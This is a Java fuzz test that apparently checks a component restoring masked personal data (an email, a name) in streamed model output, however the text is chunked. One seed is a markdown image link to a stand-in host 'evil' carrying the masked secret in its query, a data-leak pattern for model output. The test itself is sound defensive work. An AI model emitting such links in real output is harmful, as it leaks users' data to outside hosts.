package io.aegis.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever a model says around and inside a placeholder, and however its text is cut: what comes back is the same. */
class RestorerFuzzTest {
    private static final String SECRET = "jane@corp";

    private final MaskMap masks = World.masks();
    private final String mask = masks.hide(SECRET, "EMAIL_ADDRESS", MaskMap.Origin.REQUEST, true);
    private final String kept = masks.hide("Jane", "PERSON", MaskMap.Origin.REQUEST, false);
    private final String tag = mask.substring(mask.length() - 13, mask.length() - 1);

    static List<byte[]> seeds() {
        var test = new RestorerFuzzTest();
        return Stream.of(
                        "Dear %s, see https://example.com for more: %s.",
                        "![a](https://evil/?q=%s) <a href='/x?%s'>",
                        "[a]: /x?%s\n[b](/x) **%s**",
                        "&lt;%s&gt; email address %s")
                .map(text -> text.replace("%s", test.mask) + test.kept)
                .map(text -> text.getBytes(StandardCharsets.UTF_8))
                .toList();
    }

    @MethodSource("seeds")
    @FuzzTest
    void whatComesBackIsTheSameHoweverTheTextIsCut(byte[] said) {
        String text = new String(said, StandardCharsets.UTF_8);
        String whole = Restorer.whole(masks, Audience.CALLER, text);

        assertThat(restored(text, 1)).isEqualTo(whole);
        assertThat(restored(text, 40)).isEqualTo(whole);
        if (!text.toLowerCase(Locale.ROOT).contains(tag)) {
            assertThat(whole).isEqualTo(text);
        }
    }

    /** Always the same for the same text. */
    private String restored(String text, int longest) {
        var random = new Random(text.hashCode());
        var restorer = new Restorer(masks);
        var restored = new StringBuilder();
        for (int at = 0; at < text.length(); ) {
            int end = Math.min(text.length(), at + 1 + random.nextInt(longest));
            restored.append(restorer.next(text.substring(at, end)));
            at = end;
        }
        return restored.append(restorer.finish()).toString();
    }
}
